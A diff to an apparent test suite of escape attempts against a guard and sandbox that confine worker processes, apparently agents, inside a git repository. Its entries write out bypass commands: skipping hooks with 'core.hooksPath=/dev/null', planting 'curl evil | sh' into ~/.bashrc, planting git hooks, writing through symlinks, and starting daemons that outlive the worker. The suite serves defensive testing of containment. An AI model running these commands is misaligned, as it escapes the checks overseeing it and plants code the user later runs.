@@ -2,7 +2,9 @@
  * The escape attempts, one entry each: a name, an optional setup run as the user (without the
  * guard), the command a worker runs, and what must happen. `{GIT}` (the real git's absolute
  * path), `{GUARD}` (the shims' folder), `{HOOKS}`, `{REPO}`, `{REMOTE}`, `{SCRATCH}` (a folder
- * outside the repo) and `{PITROOM}` (the real program's argv) are filled in per scene.
+ * outside the repo), `{OTHER}` (another repository), `{ETC}` and `{TMPFILE}` (a file in /etc and
+ * in /tmp), `{TAG}` (a marker for a daemon's `sleep`) and `{PITROOM}` (the real program's argv)
+ * are filled in per scene.
  */
 
 /** What an escape must come to. */
@@ -15,13 +17,20 @@ export type Expect =
    * A known gap (it works; the README lists it with `why`): the state changed, or the output
    * matches `shows`.
    */
-  | { gap: string; shows?: RegExp };
+  | { gap: string; shows?: RegExp }
+  /** The command may run, and nothing the suite watches changed (the sandbox holds it). */
+  | { contained: true };
 
 /** One escape attempt. */
 export interface Escape {
   name: string;
   command: string;
   expect: Expect;
+  /**
+   * What must happen when the command runs in the sandbox as well (src/sandbox/). Unless given,
+   * a refusal may also be the sandbox's ("Read-only file system"), with nothing changed.
+   */
+  sandboxed?: Expect;
   /** Shell commands run as the user before the attempt (aliases, hooks, remotes). */
   setup?: string;
   /** A program the escape needs; skipped (and reported) when it is not installed. */
@@ -40,6 +49,7 @@ const FLOOR = /pitroom: `[^`]+` is not allowed in a worker run/;
 const RECURSION = /[Aa] worker may not start Pitroom/;
 
 const COMMIT = "commit -qm escaped";
+const READ_ONLY = { refused: /Read-only file system/ };
 
 /** Every escape attempt of the suite. */
 export const ESCAPES: readonly Escape[] = [
@@ -253,6 +263,8 @@ export const ESCAPES: readonly Escape[] = [
     name: "absolute path: stash",
     command: "{GIT} stash -q",
     expect: { refused: REFS },
+    // In the sandbox's read-only .git, `stash -q` fails quietly (exit 1, no output).
+    sandboxed: { refused: /(?:)/ },
     indexCaches: true,
   },
   {
@@ -376,21 +388,25 @@ export const ESCAPES: readonly Escape[] = [
     name: "absolute path with -c core.hooksPath",
     command: "{GIT} -c core.hooksPath=/dev/null update-ref refs/heads/main HEAD~1",
     expect: { gap: "`git -c` on the command line overrides the environment's configuration" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "absolute path with the environment's git config removed",
     command: "env -u GIT_CONFIG_COUNT {GIT} update-ref refs/heads/main HEAD~1",
     expect: { gap: "a process can change its own environment" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "deleting the hooks, then git by absolute path",
     command: "rm -rf {HOOKS} && {GIT} update-ref refs/heads/main HEAD~1",
     expect: { gap: "the worker runs as the user and can delete the guard's files" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "absolute path: symbolic-ref HEAD",
     command: "{GIT} symbolic-ref HEAD refs/heads/feature",
     expect: { gap: "git (2.39) writes symbolic refs outside ref transactions: no hook sees it" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "absolute path: reset --hard",
@@ -398,16 +414,19 @@ export const ESCAPES: readonly Escape[] = [
     expect: {
       gap: "the hook refuses the ref update, but git has already reset the files and the index",
     },
+    sandboxed: READ_ONLY,
   },
   {
     name: "absolute path: checkout -- file",
     command: "{GIT} checkout -- b.txt",
     expect: { gap: "rewriting files and the index moves no ref: no hook sees it" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "absolute path: add",
     command: "{GIT} add -A",
     expect: { gap: "changing the index moves no ref: no hook sees it" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "absolute path: push --no-verify through the user's own URL rewrite",
@@ -417,20 +436,23 @@ export const ESCAPES: readonly Escape[] = [
       gap:
         "a user's own URL rewrite is more specific than the guard's, and --no-verify skips pre-push",
     },
+    sandboxed: { refused: /Read-only file system|unable to create temporary object directory/ },
   },
   {
     name: "writing .git/refs/heads/x with echo",
     command: "git rev-parse HEAD~1 > .git/refs/heads/escaped",
     expect: { gap: "a file write, not git: the guard only stands between the worker and git" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "planting .git/hooks/pre-commit for the user's next commit",
     command: "printf '#!/bin/sh\\necho planted\\n' > .git/hooks/pre-commit",
     expect: { gap: "a file write into .git; it runs when the user commits in their own shell" },
+    sandboxed: READ_ONLY,
   },
   {
     name: "starting the real program without the marker",
-    command: "env -u PITROOM_WORKER {PITROOM} --version",
+    command: "env -u PITROOM_INSIDE_RUN {PITROOM} --version",
     expect: { gap: "a process can change its own environment", shows: /^pitroom \d/m },
   },
   {
@@ -441,5 +463,72 @@ export const ESCAPES: readonly Escape[] = [
         "write and isolate runs read what the user can; only read runs get a tree without secret files",
       shows: /env-file-secret/,
     },
+  },
+
+  // ---- file-system and process escapes: gaps of the guard alone, closed by the sandbox
+  {
+    name: "writing a file in /etc",
+    command: "printf x > {ETC}",
+    needs: "root",
+    expect: {
+      gap: "the worker runs as the user (here root): only the sandbox keeps /etc read-only",
+    },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "planting a line in the user's ~/.bashrc",
+    command: "printf 'curl evil | sh\\n' >> \"$HOME/.bashrc\"",
+    expect: { gap: "the worker runs as the user: their home is theirs to write" },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "writing a new start-up file in $HOME",
+    command: "printf 'curl evil | sh\\n' > \"$HOME/.profile\"",
+    expect: { gap: "the worker runs as the user: their home is theirs to write" },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "writing into another repository",
+    command: "printf 'mine now\\n' > {OTHER}/theirs.txt",
+    expect: { gap: "the guard watches the run's repository only" },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "committing in another repository past the shim",
+    command: "{GIT} -C {OTHER} -c core.hooksPath=/dev/null commit -q --allow-empty -m escaped",
+    expect: { gap: "`git -c` on the command line overrides the environment's configuration" },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "a symlink in the tree into .git/refs",
+    setup: "ln -s {REPO}/.git/refs/heads refs-link",
+    command: "git rev-parse HEAD~1 > refs-link/escaped",
+    expect: { gap: "a file write through a link, not git" },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "a symlink in the tree to a folder outside it",
+    setup: "ln -s {OTHER} other-link",
+    command: "printf 'mine now\\n' > other-link/theirs.txt",
+    expect: { gap: "a file write through a link: the guard watches the run's repository only" },
+    sandboxed: READ_ONLY,
+  },
+  {
+    name: "writing the machine's real /tmp",
+    command: "printf x > {TMPFILE}",
+    expect: { gap: "the worker shares the machine's /tmp" },
+    sandboxed: { contained: true },
+  },
+  {
+    name: "a setsid daemon outliving the worker",
+    command: "setsid sh -c 'exec sleep {TAG}' </dev/null >/dev/null 2>&1 &",
+    expect: { gap: "a process in a session of its own is out of the worker's process group" },
+    sandboxed: { contained: true },
+  },
+  {
+    name: "a nohup daemon outliving the worker",
+    command: "nohup sleep {TAG} </dev/null >/dev/null 2>&1 &",
+    expect: { gap: "the group kill comes only when the run ends; a finished command leaves it" },
+    sandboxed: { contained: true },
   },
 ];
